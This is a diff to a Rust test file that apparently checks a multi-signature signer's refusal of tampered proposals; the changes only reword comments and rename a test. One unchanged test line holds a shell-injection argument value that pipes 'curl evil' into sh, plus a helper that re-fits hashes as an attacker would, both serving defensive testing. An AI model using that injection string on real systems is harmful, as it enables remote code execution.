@@ -1,4 +1,4 @@
-//! What somebody changed before it reached the signer: the proposal, the playbook, the council file.
+//! Proposals, playbooks and council files that somebody changed before they reached the signer.
 
 use std::fs;
 
@@ -28,7 +28,7 @@ pub fn changed(proposal: &Value, pointer: &str, to: &Value) -> Value {
     altered
 }
 
-/// What a careful attacker does: every hash and digest in the file fits its contents again.
+/// Makes every hash and digest in the file fit its contents again, as a careful attacker does.
 pub fn rehashed(mut proposal: Value) -> Value {
     fn read<T: std::str::FromStr<Err: std::fmt::Debug>>(value: &Value) -> T {
         value.as_str().unwrap().parse().unwrap()
@@ -179,9 +179,9 @@ fn each_field_of_the_snapshot_altered_in_turn() {
     bob_refuses(bob, &changed(&good, "/safe/singleton", &json!(STRANGER)), &["--offline"], 4, &[STRANGER]);
 }
 
-/// What does not enter the transaction does not change what is signed either.
+/// Fields that are not part of the transaction do not change its hashes.
 #[test]
-fn what_the_transaction_does_not_rest_on_changes_no_signature() {
+fn fields_outside_the_transaction_change_no_signature() {
     let ceremony = two_of_three();
     let (bob, good) = handed(&ceremony);
     let expected = sign(bob, &["vault"]);
@@ -272,7 +272,7 @@ fn an_open_argument_is_said_by_every_signer() {
     bob_refuses(bob, &evil, &[], 4, &[r"--set 'target=$(curl evil|sh)'\''; id'"]);
 }
 
-/// What the lever fixes is not signed for whoever says another value, from a file as little as by the lever.
+/// An argument that the lever fixes cannot be given another value, neither from a file nor by the lever.
 #[test]
 fn a_value_said_against_the_lever_is_not_passed_over() {
     let ceremony = two_of_three();
@@ -301,7 +301,7 @@ fn in_a_narrow_terminal_no_text_of_a_strangers_begins_a_line() {
     assert!(lines.max() > Some(30));
 }
 
-/// How many columns of a screen a line takes, without its colours.
+/// Returns the number of columns that a line takes on a screen, without its colours.
 fn console_width(line: &str) -> usize {
     let mut width = 0;
     let mut in_escape = false;
